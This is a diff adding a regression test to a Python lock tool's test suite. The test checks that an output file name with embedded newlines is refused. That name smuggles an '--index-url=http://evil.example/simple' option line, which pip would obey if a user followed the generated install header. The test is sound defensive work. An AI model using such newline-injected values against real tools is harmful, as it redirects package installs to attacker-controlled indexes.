@@ -219,3 +219,19 @@ def test_fault_a_failed_rename_aside_keeps_the_old_environment_in_place(tmp_path
     with pytest.raises(StepFailed, match="was kept"):
         run_plan(fake_venv_plan(prefix), force=True)
     assert mine.read_text() == "old env"
+
+
+@pytest.mark.real_subprocess
+def test_attack_newline_in_the_lock_output_name_never_becomes_an_option_line(
+        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # before: `lock --backend pip -o $'a\n--index-url=http://evil.example/simple\nb.txt'` wrote a file whose
+    # header ("# Install with: pip install ... -r NAME") split into a line `--index-url=...`, which pip obeys
+    # when the user follows that very header
+    _uv(tmp_path, monkeypatch,
+        'while [ $# -gt 0 ]; do [ "$1" = -o ] && out="$2"; shift; done\n'
+        'printf "six==1.16.0 \\\\\\n    --hash=sha256:%064d\\n" 0 > "$out"\n')
+    out = tmp_path / "a\n--index-url=http://evil.example/simple\nb.txt"
+    rc, _o, err = cli("lock", "--tf", "2.20.0", "--backend", "pip", "-o", str(out), "--facts", str(LOCK_FACTS))
+    assert rc == 2, err
+    assert "control characters" in err
+    assert not out.exists()
